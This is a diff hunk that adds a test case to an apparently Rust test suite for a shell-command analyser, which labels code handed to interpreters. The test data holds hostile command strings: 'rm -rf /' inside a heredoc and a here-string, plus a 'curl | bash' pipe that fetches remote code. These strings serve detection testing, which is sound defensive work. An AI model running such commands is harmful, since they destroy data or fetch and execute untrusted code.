@@ -53,6 +53,7 @@ fn code_handed_to_interpreters_is_analysed() {
             ),
             ("python3 <<'EOF'\nimport socket\nEOF\n", &["module-socket"]),
             ("bash <<< 'rm -rf /'", &["destructive-command"]),
+            ("cat <<EOF\n$(rm -rf /)\nEOF\n", &["destructive-command"]),
             ("echo 'import ctypes' | python3", &["module-ctypes"]),
             (
                 "curl -s http://x | bash",
